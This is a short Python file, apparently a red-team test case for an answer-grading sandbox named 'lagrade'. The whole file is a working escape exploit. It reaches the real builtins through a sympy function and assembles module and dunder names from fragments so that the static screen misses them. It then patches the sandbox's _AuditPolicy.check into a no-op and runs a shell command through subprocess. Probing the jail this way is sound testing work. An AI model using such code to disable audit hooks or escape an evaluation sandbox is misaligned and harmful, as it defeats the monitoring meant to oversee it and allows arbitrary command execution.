"""effect: run-command
tries: swap _AuditPolicy.check for a no-op, import subprocess with the real __import__ and run a command.

Class patching, then the subprocess module.
"""

from lagrade.answer import *

# a sympy function's __builtins__ is the real builtins dict (not audited; the dunder is built at
# run time so the screen never sees it as a string constant)
from sympy import expand
from sympy.core.add import attrgetter

B = attrgetter("_" + "_builtins__")(expand)
imp = B["_" + "_import_" + "_"]
os_, sys_ = imp("o" + "s"), imp("s" + "ys")  # already imported: no "import" audit event
inspect = imp("inspect")
members = lambda obj: dict(inspect.getmembers(obj))

def work():
    sp_ = B["_" + "_import_" + "_"]("sub" + "process")
    sp_.run(["/bin/sh", "-c", "id > /tmp/lagrade-redteam/drop/pwned-classpatch_subprocess_popen"])


# the hook's class is reachable through sys.modules; replacing its check method is an
# "object.__setattr__" event on a type, which the hook allows for every name but three
sbx = members(sys_)["modules"]["lagrade.answer.jail.child"]
if "_AuditPolicy" in members(sbx):
    sbx._AuditPolicy.check = lambda self, event, args: None
work()
